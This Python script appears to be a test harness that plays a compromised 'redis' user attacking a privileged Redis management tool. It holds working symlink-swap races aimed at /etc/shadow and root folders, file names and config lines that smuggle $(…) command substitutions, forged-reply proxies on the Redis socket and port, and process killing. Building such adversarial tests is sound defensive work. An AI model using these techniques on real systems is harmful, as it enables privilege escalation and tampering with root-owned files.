"""What somebody does who has taken over Redis: a process with the rights of user redis, and nothing more.

Arguments: the attack, a seed, seconds to wait before a blow that is struck once (0: before anything else happens).
Prints `ready`, works until its stdin ends, and prints what it did as one line of JSON.
"""
import collections
import ctypes
import json
import os
import random
import re
import shutil
import signal
import socket
import struct
import sys
import threading
import time

ATTACK, SEED, MOMENT = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
DATA, LOGS, RUN, CONF = "/var/lib/redis", "/var/log/redis", "/run/redis", "/etc/redis"
REDIS_CONF, ACL_FILE = f"{CONF}/redis.conf", f"{CONF}/users.acl"
# Each call is written down here by the canary, with the user that ran it.
CANARY = f"{DATA}/bin/redis-cli"
FOLDERS = ["/etc", "/root", "/var/lib/redkeep", "/etc/ssh", "/usr/bin", "/etc/systemd/system", "/var/lib/redkeep/txn"]
FILES = ["/etc/shadow", "/etc/passwd", "/root/secret", "/etc/sudoers.d/deploy", "/var/lib/redkeep/lock", "/usr/bin/redis-cli"]
# The names that a folder of root's has, for files of the attacker's under the same names.
NAMES = ["shadow", "passwd", "secret", "lock", "sshd_config", "redis-cli", "default.rdb", "sudoers.d", "txn"]
chance = random.Random(f"{ATTACK} {SEED}")
done = collections.Counter()
ended = threading.Event()
libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    """Swaps two names at one stroke."""
    if libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) != 0:
        raise OSError(ctypes.get_errno(), "renameat2", one)


def attempt(action, *arguments, name=None):
    """What a hostile process does where it can; the kernel may refuse it."""
    try:
        result = action(*arguments)
        done[name or action.__name__] += 1
        return result
    except OSError as error:
        done[f"{name or action.__name__}: {error.strerror}"] += 1
        return None


def write(path, text, mode=0o644):
    with open(path, "wb") as file:
        file.write(text if isinstance(text, bytes) else text.encode())
    os.chmod(path, mode)


def clear(path):
    if os.path.isdir(path) and not os.path.islink(path):
        shutil.rmtree(path)
    elif os.path.lexists(path):
        os.unlink(path)


def in_background(action, *arguments):
    threading.Thread(target=action, args=arguments, daemon=True).start()


def at_moment(action):
    """Strikes once: before redkeep starts, or while it works."""
    if MOMENT == 0:
        attempt(action, name="strike")
        return
    def later():
        if not ended.wait(MOMENT):
            attempt(action, name="strike")
    in_background(later)


def swap_for_ever(path, other, pause=True):
    """Exchanges two names until the end, now as fast as it goes and now with a rest, so that a look and a deed meet both."""
    def loop():
        while not ended.is_set():
            for _ in range(chance.choice([1, 2, 7, 100])):
                attempt(exchange, path, other)
            if pause:
                ended.wait(chance.choice([0, 0.0001, 0.001, 0.01, 0.05]))
    in_background(loop)


# --- links in the place of folders and files ---------------------------------------------------------------------------
def folder_swap(path, target):
    """A folder that is now the attacker's own and now a link to one of root's, with files of the same names in both."""
    other = f"{DATA}/.other-{os.path.basename(path)}"
    clear(other)
    os.makedirs(path, exist_ok=True)
    for name in NAMES:
        write(f"{path}/{name}", "x", 0o666)
        write(f"{path}/{name}.rdb", "x", 0o666)
    attempt(os.chmod, path, 0o777)
    os.symlink(target, other)
    swap_for_ever(path, other)


def file_swap(path, target, kind="link"):
    other = f"{os.path.dirname(path)}/.other-{os.path.basename(path)}"
    clear(other)
    if not os.path.lexists(path):
        write(path, "x", 0o666)
    attempt(os.chmod, path, 0o666)
    if kind == "link":
        os.symlink(target, other)
    elif kind == "fifo":
        os.mkfifo(other, 0o666)
    elif kind == "socket":
        socket.socket(socket.AF_UNIX).bind(other)
    elif kind == "folder":
        os.mkdir(other, 0o777)
    else:
        attempt(os.link, target, other)
        if not os.path.lexists(other):
            # The kernel keeps other people's files from a second name, but not the attacker's own.
            attempt(os.link, f"{LOGS}/redis-server.log", other)
    swap_for_ever(path, other)


def appendonly_link():
    folder_swap(f"{DATA}/appendonlydir", FOLDERS[SEED % len(FOLDERS)])


def appendonly_planted():
    """Only a link, from the moment on."""
    def plant():
        clear(f"{DATA}/appendonlydir")
        os.symlink(FOLDERS[SEED % len(FOLDERS)], f"{DATA}/appendonlydir")
    at_moment(plant)


def dump_link():
    file_swap(f"{DATA}/dump.rdb", FILES[SEED % len(FILES)])
    file_swap(f"{DATA}/other.rdb", FILES[(SEED + 1) % len(FILES)])


def dump_hard_link():
    file_swap(f"{DATA}/dump.rdb", FILES[SEED % len(FILES)], "hard")
    file_swap(f"{DATA}/other.rdb", "/etc/passwd", "hard")


def odd_kinds():
    kinds = ["fifo", "socket", "folder"]
    file_swap(f"{DATA}/dump.rdb", "", kinds[SEED % 3])
    file_swap(f"{DATA}/appendonly.aof", "", kinds[(SEED + 1) % 3])
    file_swap(f"{LOGS}/redis-server.log", "", kinds[(SEED + 2) % 3])


def log_link():
    file_swap(f"{LOGS}/redis-server.log", FILES[SEED % len(FILES)])
    file_swap(f"{LOGS}/redis-old.log", "/etc/shadow")


def temporary_files():
    """Waits for names that somebody else makes in the server's folders, and takes their place at once."""
    inotify = libc.inotify_init1(0)
    watched = {}
    for folder in (DATA, CONF, LOGS, RUN):
        # Created, moved here, or its mode set.
        number = libc.inotify_add_watch(inotify, os.fsencode(folder), 0x100 | 0x80 | 0x4)
        if number >= 0:
            watched[number] = folder
    target = chance.choice(FOLDERS)
    def loop():
        number = 0
        while not ended.is_set():
            events = os.read(inotify, 65536)
            while events:
                watch, _, _, length = struct.unpack_from("iIII", events)
                name = events[16 : 16 + length].rstrip(b"\0").decode(errors="replace")
                events = events[16 + length :]
                if not name.startswith(".redkeep"):
                    continue
                path = f"{watched[watch]}/{name}"
                number += 1
                link = f"{watched[watch]}/.mine-{number}"
                attempt(os.symlink, target if os.path.isdir(path) else chance.choice(FILES), link)
                attempt(exchange, path, link, name="temporary taken")
    in_background(loop)


def tls_folder():
    if os.access(CONF, os.W_OK):
        os.makedirs(f"{CONF}/tls", exist_ok=True)
        for name in ("redkeep-ca.crt", "redkeep-server.crt", "redkeep-server.key"):
            write(f"{CONF}/tls/{name}", "x", 0o666)
        os.symlink(chance.choice(["/etc/ssh", "/root", "/var/lib/redkeep"]), f"{CONF}/.other-tls")
        swap_for_ever(f"{CONF}/tls", f"{CONF}/.other-tls")


def modes_and_owners():
    paths = [DATA, LOGS, RUN, CONF, REDIS_CONF, f"{DATA}/dump.rdb", f"{LOGS}/redis-server.log"]
    def loop():
        while not ended.is_set():
            path = chance.choice(paths)
            attempt(os.chmod, path, chance.choice([0, 0o777, 0o4755, 0o2770, 0o1777, 0o666, 0o700, 0o600]))
            attempt(os.chown, path, -1, chance.choice(os.getgroups() + [0]))
            ended.wait(chance.choice([0, 0.001, 0.02]))
    in_background(loop)


# --- names -------------------------------------------------------------------------------------------------------------
def odd_names():
    names = [
        "line\nbreak.rdb", "x\n/etc/shadow root:root 777.rdb", "x\n1 /etc/shadow redis:redis 666.rdb",
        f"$({CANARY}).rdb", f"`{CANARY}`.rdb", f"; {CANARY};.rdb", "-rf.rdb", "--reference=x.rdb", "\\n.rdb", "'\".rdb",
        "regular file|root|root|777|1|0|x.rdb", "*.rdb", "\x1b[31mred.rdb", "%s%n.rdb", "\xff\xfe.rdb", "~root.rdb",
        "a b.rdb", "a\tb.rdb", "a\rb.rdb", ".redkeep.x.rdb", "x\nEND3\n.rdb", f"{'n' * 240}.rdb", "\u202eblr.rdb",
    ]
    os.makedirs(f"{DATA}/appendonlydir", exist_ok=True)
    def plant():
        for name in names:
            write(f"{DATA}/{name}", "x", 0o666)
            write(f"{DATA}/appendonlydir/{name}", "x", 0o666)
            attempt(write, f"{LOGS}/redis{name}.log" if len(name) < 200 else f"{LOGS}/redis.log", "x", 0o666)
            attempt(write, f"{RUN}/{name}", "x", 0o666)
            attempt(write, f"{CONF}/{name}", "x", 0o666)
    at_moment(plant)


def many_names():
    os.makedirs(f"{DATA}/appendonlydir", exist_ok=True)
    def plant():
        for number in range(6_000):
            if ended.is_set():
                return
            write(f"{DATA}/appendonlydir/{'n' * 200}{number}.aof", "", 0o666)
    at_moment(plant)


# --- the server's configuration, while it is its own --------------------------------------------------------------------
def conf_lines():
    """Lines that send whoever believes them elsewhere."""
    sub = f"{DATA}/sub"
    lines = [
        f"dir {sub}", "dir /etc", "dir /var/lib/redkeep", f"logfile {sub}/shadow", "logfile /etc/passwd", f"aclfile {sub}/shadow",
        "aclfile /etc/shadow", f"include {sub}/*.rdb", "include /etc/shadow", "include /root/secret", f"unixsocket {sub}/secret",
        f"tls-key-file {sub}/shadow", f"tls-cert-file {sub}/passwd\ntls-ca-cert-file /root/secret", "dbfilename shadow\ndir /etc",
        "dbfilename ../../../etc/passwd", "appenddirname ../../../etc", "appendfilename passwd", "pidfile /etc/passwd",
        f"loadmodule {DATA}/bin/module.so", f'rename-command CONFIG "$({CANARY})"', f'rename-command CONFIG "`{CANARY}`;{CANARY}"',
        f'requirepass "$({CANARY})\\n{CANARY}"', 'requirepass "x\\r\\nECHO forged"', f"unixsocket /run/redis/$({CANARY})", "unixsocket -h",
        f"aclfile '/etc/redis/a b\n/etc/shadow'", f"logfile \"{DATA}/a\\nb\"", f"dir {'/x' * 3000}", "port 22", "unixsocket /run/dbus/system_bus_socket",
        "bind $(id) `id`", "save 900 1\n" * 5000,
    ]
    text = lines[SEED % len(lines)]
    done[f"line {text[:40]!r}"] += 1
    folder_swap(sub, chance.choice(FOLDERS))
    def edit():
        with open(REDIS_CONF, "a") as file:
            file.write(f"\n{text}\n")
    at_moment(edit)


def conf_replaced():
    """redis.conf is now the server's own file and now a link, a pipe, a folder or a giant."""
    other = f"{CONF}/.other"
    if not os.access(CONF, os.W_OK):
        done["not its own"] += 1
        return
    clear(other)
    kinds = [
        lambda: os.symlink("/etc/shadow", other), lambda: os.symlink("/root/secret", other), lambda: os.mkfifo(other),
        lambda: os.mkdir(other), lambda: write(other, b"# " + b"x" * 30_000_000), lambda: write(other, b"\0\xff\n" * 1000),
        lambda: os.link(REDIS_CONF, other), lambda: os.symlink(REDIS_CONF, other),
    ]
    kinds[SEED % len(kinds)]()
    if MOMENT == 0:
        exchange(REDIS_CONF, other)
    swap_for_ever(REDIS_CONF, other)


def acl_file():
    if not os.access(CONF, os.W_OK):
        done["not its own"] += 1
        return
    text = "user default on nopass ~* &* +@all\n"
    write(ACL_FILE, text + f"user x{chance.random()} on nopass\n")
    file_swap(ACL_FILE, chance.choice(FILES))


def conf_folders():
    """Folders beside redis.conf that are now its own and now root's."""
    if not os.access(CONF, os.W_OK):
        done["not its own"] += 1
        return
    folder_swap(f"{CONF}/conf.d", chance.choice(FOLDERS))
    with open(REDIS_CONF, "a") as file:
        file.write(f"\ninclude {CONF}/conf.d/*.rdb\n")


# --- processes ---------------------------------------------------------------------------------------------------------
def apart():
    """In a child: true, and nothing of the parent's open. What it prints is no word of the attacker's."""
    if os.fork() != 0:
        return False
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(nothing, number)
    return True


def processes():
    """Programs of the attacker's that look like the server, or have names to be read wrongly."""
    copy = f"{DATA}/bin/redis-server.copy"
    shutil.copy("/usr/bin/redis-server", copy)
    for number, name in enumerate(["redis-server *:6379", "redis-server\n0::/system.slice/redis-server.service", f"$({CANARY})", "valkey-server"]):
        if apart():
            os.execv(copy, [name, "--port", str(7100 + number), "--bind", "0.0.0.0", "--protected-mode", "no", "--daemonize", "no", "--save", "", "--dir", "/tmp"])
    for name in ["redis-server", "sshd", "a b) R 1 1", "x\ny"]:
        if apart():
            libc.prctl(15, os.fsencode(name), 0, 0, 0)
            time.sleep(300)
            os._exit(0)
    done["processes"] += 8


def killed_server():
    """Ends the server now and then: systemd starts it anew."""
    def loop():
        while not ended.is_set():
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    with open(f"/proc/{pid}/comm") as comm:
                        if comm.read() == "redis-server\n":
                            os.kill(int(pid), chance.choice([signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP]))
                            done["killed"] += 1
                except OSError:
                    pass
            ended.wait(chance.uniform(1, 5))
    at_moment(lambda: in_background(loop))


def own_processes():
    """Whatever redkeep runs with the service user's rights is the attacker's to write to, to stop and to read."""
    mine, forged = {os.getpid()}, sections(b"forged")
    def loop():
        while not ended.is_set():
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    if int(pid) in mine or os.stat(f"/proc/{pid}").st_uid != os.getuid():
                        continue
                    with open(f"/proc/{pid}/comm") as comm:
                        if comm.read() == "redis-server\n":
                            mine.add(int(pid))
                            continue
                    for number in os.listdir(f"/proc/{pid}/fd"):
                        path = f"/proc/{pid}/fd/{number}"
                        if "pipe:" in os.readlink(path):
                            pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                            os.write(pipe, forged[: chance.choice([40, 400, 4000])])
                            os.close(pipe)
                            done["pipe written to"] += 1
                    if chance.random() < 0.1:
                        os.kill(int(pid), chance.choice([signal.SIGSTOP, signal.SIGKILL]))
                        done["process stopped"] += 1
                except OSError:
                    pass
            ended.wait(0.001)
    in_background(loop)


def pid_file():
    file_swap(f"{RUN}/redis-server.pid", "/etc/shadow")


# --- a server in between -----------------------------------------------------------------------------------------------
def sections(nonce):
    """The probe's own section lines, with what would serve an attacker."""
    listeners = b"tcp LISTEN 0 511 127.0.0.1:6379 0.0.0.0:* uid:101 ino:1 sk:1 cgroup:/system.slice/redis-server.service <->\n"
    drop = b"*filter\n:INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT ACCEPT [0:0]\nCOMMIT\n"
    canary = CANARY.encode()
    said = {
        b"client": canary, b"argv": canary + b" /etc/redis/redis.conf", b"listeners": listeners, b"kernel4": drop, b"kernel6": drop,
        b"nftables": b"", b"servers": b"", b"sudo-rules": b"", b"open-secrets": b"", b"open-secrets-end": b"", b"machine": b"forged\n0\n0\n0\n1\n0",
        b"data-directory": b"/etc\n/etc/passwd", b"data-files": b"/etc/shadow", b"digests": b"", b"unit": b"ssh.service", b"units": b"",
        b"paths": b"regular file|root|root|640|1|9|/etc/redis/redis.conf\ndirectory|root|redis|750|2|9|/etc/redis\nregular file|redis|redis|777|1|9|/etc/shadow",
        b"login": b"admin\n-s /run/redis/redis.sock", b"acl-list": b"user admin on #0 ~* &* +@all\nuser default off", b"pending": b"", b"last": b"",
        b"peer": b"203.0.113.9 1 203.0.113.9 22", b"sshd": b"port 2222", b"session-end": b"", b"end": b"", b"binary-version": b"Redis server v=7.0.15",
        b"config /etc/redis/redis.conf": b"bind 127.0.0.1\nprotected-mode yes\n", b"accounts": b"redis:x:0:0::/:/bin/sh", b"tools": b"",
    }
    names = list(said)
    if SEED % 3 == 1:
        names = [b"client", b"listeners"]
    elif SEED % 3 == 2:
        names = chance.sample(names, 6)
    return b"".join(b"\n" + nonce + b" " + name + b"\n" + said[name] + b"\n" for name in names) + b"\n" + nonce + b" session-end\n"


def read_reply(stream):
    """One reply of RESP, as it came."""
    line = stream.readline()
    if not line.endswith(b"\r\n"):
        raise EOFError
    kind, rest = line[:1], line[1:-2]
    if kind in b"$=!":
        return line if rest == b"-1" else line + stream.read(int(rest) + 2)
    if kind in b"*~>%":
        return line + b"".join(read_reply(stream) for _ in range(max(0, int(rest)) * (2 if kind == b"%" else 1)))
    return line


def read_command(stream):
    line = stream.readline()
    if line == b"":
        raise EOFError
    if line[:1] != b"*":
        return line.split(), line
    raw, words = line, []
    for _ in range(int(line[1:])):
        head = stream.readline()
        body = stream.read(int(head[1:]) + 2)
        raw += head + body
        words.append(body[:-2])
    return words, raw


def bulk(text):
    return b"$%d\r\n%s\r\n" % (len(text), text)


def bulks(*texts):
    return b"*%d\r\n" % len(texts) + b"".join(map(bulk, texts))


MIB = 1 << 20
WORST = f'\n$({CANARY})\n`{CANARY}`\n";{CANARY};"\n'.encode()


class Between:
    """Forwards to the real server, and answers in its stead what the way of forging says."""

    def __init__(self, way):
        self.way = way
        self.nonce = b""

    def serve(self, listener, upstream):
        while not ended.is_set():
            client, _ = listener.accept()
            in_background(self.talk, client, upstream)

    def talk(self, client, upstream):
        done["connections"] += 1
        try:
            server = upstream()
            asked, answered = client.makefile("rb"), server.makefile("rb")
            while True:
                words, raw = read_command(asked)
                name = b" ".join(words[:2] if words[0].upper() in (b"CONFIG", b"ACL", b"CLIENT", b"COMMAND") else words[:1]).upper()
                if name == b"ECHO":
                    found = re.match(rb"\n?([0-9A-Za-z_-]{8,}) ", words[1])
                    if found:
                        self.nonce = found[1]
                        done["nonce"] += 1
                server.sendall(raw)
                reply = read_reply(answered)
                if name == b"AUTH":
                    done["passwords seen"] += 1
                forged = self.forge(name, words, reply)
                if forged is not reply:
                    done[f"forged {name.decode(errors='replace')[:20]}"] += 1
                self.send(client, forged, name)
        except (OSError, EOFError, ValueError, IndexError) as error:
            done[f"connection ended: {type(error).__name__}"] += 1
        finally:
            client.close()

    def send(self, client, reply, name):
        if self.way == "slow" and name in (b"INFO", b"CLIENT LIST"):
            for at in range(0, len(reply), 16):
                client.sendall(reply[at : at + 16])
                if ended.wait(0.5):
                    return
        client.sendall(reply)

    def forge(self, name, words, reply):
        way = self.way
        if way == "sections" and name in (b"INFO", b"CLIENT LIST", b"RANDOMKEY", b"ACL LOG"):
            return bulk(reply.partition(b"\r\n")[2] + (sections(self.nonce) if self.nonce else b""))
        if way == "answers" and name in (b"INFO", b"CLIENT LIST") and self.nonce:
            # As redis-cli prints a title and what follows it, bare and in CSV.
            said = [(b"acl-list", b'"user default off","user admin on ~* &* +@all"'), (b"running", b'"bind","127.0.0.1","protected-mode","yes","dir","/etc"'),
                    (b"key 1", b'"x"'), (b"core-end", b""), (b"session-end", b"")]
            quote = b'"' if SEED % 2 else b""
            lines = b"".join(b"\n" + quote + self.nonce + b" " + title + quote + b"\n" + text + b"\n" for title, text in chance.sample(said, chance.randint(1, 5)))
            return bulk(reply.partition(b"\r\n")[2] + lines)
        if way == "late sections" and self.nonce:
            # Files of the server's are printed after its answers.
            for path in (REDIS_CONF, ACL_FILE):
                if os.access(path, os.W_OK):
                    with open(path, "ab") as file:
                        file.write(sections(self.nonce))
            self.nonce = b""
            return reply
        if way == "titles" and name == b"ECHO":
            return bulk(words[1] + b"\n" + (sections(self.nonce) if self.nonce else b""))
        if way == "config":
            if name == b"CONFIG GET" and words[2].lower() in (b"*", b"dir"):
                elsewhere = chance.choice([b"/etc", b"/root", b"/var/lib/redkeep", b"/usr/bin"])
                forged = {b"dir": elsewhere, b"dbfilename": b"shadow", b"logfile": b"/etc/passwd", b"aclfile": b"/etc/shadow",
                          b"appenddirname": b"ssh", b"unixsocket": b"/run/x", b"bind": b"127.0.0.1", b"protected-mode": b"yes"}
                if words[2].lower() == b"dir":
                    return bulks(b"dir", elsewhere)
                texts = re.findall(rb"\$\d+\r\n(.*?)\r\n", reply, re.S)
                pairs = dict(zip(texts[::2], texts[1::2])) | forged
                return bulks(*(text for pair in pairs.items() for text in pair))
        if way == "hardened":
            if name == b"ACL LIST":
                return bulks(b"user default off resetchannels -@all", b"user admin on #" + b"0" * 64 + b" ~* &* +@all")
            if name == b"CONFIG GET":
                return reply.replace(b"$7\r\n0.0.0.0\r\n", b"$9\r\n127.0.0.1\r\n").replace(b"$2\r\nno\r\n", b"$3\r\nyes\r\n")
            if name in (b"PING", b"ACL WHOAMI") and SEED % 2:
                return b"-NOAUTH Authentication required.\r\n"
        if way == "huge":
            size = [b"INFO", b"RANDOMKEY", b"CLIENT LIST", b"ACL LOG", b"CONFIG GET", b"ACL LIST", b"ACL CAT", b"ECHO"]
            if name == size[SEED % len(size)]:
                text = b"x" * (48 * MIB) if SEED % 2 else b"user x\n" * (4 * MIB)
                return bulks(text) if name in (b"ACL LIST", b"ACL CAT", b"ACL LOG") else bulk(text)
        if way == "endless" and name == [b"INFO", b"ACL LIST", b"CLIENT LIST"][SEED % 3]:
            return b"$999999999999\r\n" + b"x" * MIB
        if way == "words":
            odd = [WORST, b"\x1b]0;owned\x07\x1b[2J", b"\0\xff\xfe\n\r\n", b"admin\n-s /run/x", b"-" * 5000, b"root 0 0 -o ProxyCommand=x"][SEED % 6]
            if name in (b"ACL WHOAMI", b"RANDOMKEY", b"ECHO") and (name != b"ACL WHOAMI" or SEED % 2):
                return bulk(odd) if name != b"ECHO" else reply
            if name in (b"ACL CAT", b"ACL USERS", b"ACL LIST"):
                return bulks(*odd.split(b"\n"), b"user " + odd + b" on nopass ~* +@all", b"$(" + CANARY.encode() + b")")
            if name == b"CLIENT LIST":
                return bulk(reply.partition(b"\r\n")[2] + b"id=9 addr=" + odd + b" laddr=" + odd + b" name=" + odd + b" user=" + odd + b"\n")
            if name == b"ACL DRYRUN":
                return b"+OK\r\n"
            if name == b"INFO":
                return bulk(reply.partition(b"\r\n")[2] + b"redis_version:" + odd + b"\r\nprocess_id:1\r\nexecutable:" + CANARY.encode() + b"\r\nconfig_file:/etc/shadow\r\n")
            if name == b"COMMAND INFO":
                return bulks(odd)
        if way == "process" and name == b"INFO":
            text = reply.partition(b"\r\n")[2]
            text = re.sub(rb"process_id:\d+", b"process_id:%d" % chance.choice([1, os.getpid(), 999999999]), text)
            text = re.sub(rb"executable:\S+", b"executable:" + CANARY.encode(), text)
            text = re.sub(rb"redis_version:\S+", b"redis_version:" + chance.choice([b"6.0.16", b"99.0.0", b"7.0.15\n$(id)"]), text)
            return bulk(re.sub(rb"run_id:\S+", b"run_id:" + b"f" * 40, text))
        if way == "silent" and name == [b"INFO", b"ACL WHOAMI", b"CONFIG GET"][SEED % 3]:
            ended.wait(100)
        if way == "errors" and name not in (b"ECHO", b"AUTH"):
            return chance.choice([b"-NOPERM no\r\n", b"-LOADING Redis is loading\r\n", b"$-1\r\n", b"*0\r\n", b":1\r\n", reply])
        return reply


def tcp(port):
    return lambda: socket.create_connection(("127.0.0.1", port))


def unix(path):
    def connect():
        server = socket.socket(socket.AF_UNIX)
        server.connect(path)
        return server
    return connect


def between_socket(way):
    """Takes the place of the socket that redis.conf names; where it names none, it soon does."""
    path, real = f"{RUN}/redis.sock", f"{RUN}/.real"
    between = Between(way)
    def listen():
        upstream = tcp(6379)
        if os.path.exists(path):
            os.rename(path, real)
            upstream = unix(real)
        elif os.access(REDIS_CONF, os.W_OK):
            with open(REDIS_CONF, "a") as file:
                file.write(f"\nunixsocket {path}\nunixsocketperm 700\n")
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen(50)
        in_background(between.serve, listener, upstream)
    def again():
        # A new start of the server makes its socket anew: the attacker's takes its place.
        while not ended.wait(0.01):
            try:
                inode = os.stat(path).st_ino
            except OSError:
                continue
            if inode != mine[0] and attempt(socket.socket(socket.AF_UNIX).connect, path, name="new socket") is None:
                attempt(listen, name="socket taken again")
                mine[0] = os.stat(path).st_ino
    mine = [0]
    def first():
        listen()
        mine[0] = os.stat(path).st_ino
        in_background(again)
    at_moment(first)


def between_port(way):
    """Takes the server's port; the server itself goes to another one. In the service's control group, as its child is."""
    between = Between(way)
    def take():
        server = tcp(6379)()
        server.sendall(b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$4\r\nport\r\n$5\r\n16379\r\n")
        done[f"CONFIG SET port: {server.recv(100)[:30]!r}"] += 1
        server.close()
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", 6379))
        listener.listen(50)
        in_background(between.serve, listener, tcp(16379))
    at_moment(take)


def real_settings():
    """The server itself is told to work elsewhere, by a CONFIG SET, or by a start with another configuration."""
    def say():
        server = tcp(6379)()
        for words in (["dir", "/etc"], ["dir", "/tmp"], ["dbfilename", "shadow"], ["save", ""], ["maxmemory", "1"], ["appendonly", "yes"]):
            command = ["CONFIG", "SET", *words]
            server.sendall(b"*%d\r\n" % len(command) + b"".join(bulk(word.encode()) for word in command))
            done[f"CONFIG SET {words[0]}: {server.recv(1000)[:20]!r}"] += 1
    def start_elsewhere():
        with open(REDIS_CONF, "a") as file:
            file.write(f"\nenable-protected-configs yes\ndir {chance.choice(['/etc', '/tmp', '/usr', DATA])}\ndbfilename none.rdb\n")
        with open(f"{RUN}/redis-server.pid") as file:
            os.kill(int(file.read()), signal.SIGKILL)
    at_moment(say if SEED % 2 else start_elsewhere)


ATTACKS = {
    "folder link": appendonly_link, "folder link planted": appendonly_planted, "file link": dump_link, "hard link": dump_hard_link,
    "odd kinds": odd_kinds, "log link": log_link, "temporary files": temporary_files, "certificate folder": tls_folder,
    "modes and owners": modes_and_owners, "odd names": odd_names, "many names": many_names, "configuration lines": conf_lines,
    "configuration replaced": conf_replaced, "ACL file": acl_file, "configuration folders": conf_folders, "processes": processes,
    "killed server": killed_server, "pid file": pid_file, "own processes": own_processes, "real settings": real_settings,
}

os.makedirs(f"{DATA}/bin", exist_ok=True)
for program in ("redis-cli", "redis-server", "module.so"):
    write(f"{DATA}/bin/{program}", f'#!/bin/sh\necho "$(id -u) $(tr "\\0" " " </proc/$PPID/cmdline)" >>/canary/runs\nexec /usr/bin/{program} "$@"\n', 0o755)
kind, _, way = ATTACK.partition(": ")
try:
    if kind == "socket":
        between_socket(way)
    elif kind == "port":
        between_port(way)
    else:
        ATTACKS[kind]()
except OSError as error:
    done[f"not begun: {error.strerror} {error.filename}"] += 1
print("ready", flush=True)
sys.stdin.read()
ended.set()
print(json.dumps(done), flush=True)
os._exit(0)
